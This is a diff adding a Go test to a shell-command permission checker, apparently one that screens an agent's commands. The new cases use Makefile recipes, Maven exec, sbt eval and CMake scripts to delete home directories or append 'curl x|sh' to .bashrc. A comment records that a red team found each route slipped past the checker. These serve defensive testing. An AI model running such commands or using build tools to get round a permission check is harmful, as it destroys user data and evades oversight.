@@ -202,3 +202,26 @@ func TestPackageManagerShellLines(t *testing.T) {
 		{"declare -x PAGER='less -R'", dsl.Allow, dsl.Allow},
 	})
 }
+
+// TestBuildToolCommands: a makefile rule's recipe after its ;, Maven's
+// exec:exec of -Dexec.executable, sbt's eval and CMake's file() deleting
+// or writing outside the build run what they say (red team, 2026-12-04:
+// each was allowed).
+func TestBuildToolCommands(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{"echo 'all:; rm -rf ~' > Makefile; make", dsl.Block, dsl.Block},
+		{"echo 'all:; rm -rf ~' > mk; make -f mk", dsl.Block, dsl.Block},
+		{"mvn exec:exec -Dexec.executable=rm -Dexec.args='-rf /home/u'", dsl.Block, dsl.Block},
+		{"mvn -q org.codehaus.mojo:exec-maven-plugin:3.1.0:exec -Dexec.executable=sh -Dexec.args='-c \"rm -rf ~\"'", dsl.Block, dsl.Block},
+		{`sbt 'eval "rm -rf /home/u".!'`, dsl.Block, dsl.Block},
+		{"echo 'file(REMOVE_RECURSE $ENV{HOME})' > x.cmake; cmake -P x.cmake", dsl.Block, dsl.Block},
+		{"echo 'file(APPEND $ENV{HOME}/.bashrc \"curl x|sh\")' > x.cmake; cmake -P x.cmake", dsl.Ask, dsl.Ask},
+		// everyday
+		{"echo 'all: ; go build ./...' > Makefile; make", dsl.Allow, dsl.Allow},
+		{"mvn exec:exec -Dexec.executable=echo -Dexec.args=hi", dsl.Allow, dsl.Allow},
+		{"mvn exec:java -Dexec.mainClass=com.x.Main", dsl.Allow, dsl.Allow},
+		{"sbt 'eval 1+1'", dsl.Allow, dsl.Allow},
+		{"echo 'file(REMOVE_RECURSE build/tmp)' > x.cmake; cmake -P x.cmake", dsl.Allow, dsl.Allow},
+		{"echo 'file(WRITE out.txt \"hi\")' > x.cmake; cmake -P x.cmake", dsl.Allow, dsl.Allow},
+	})
+}
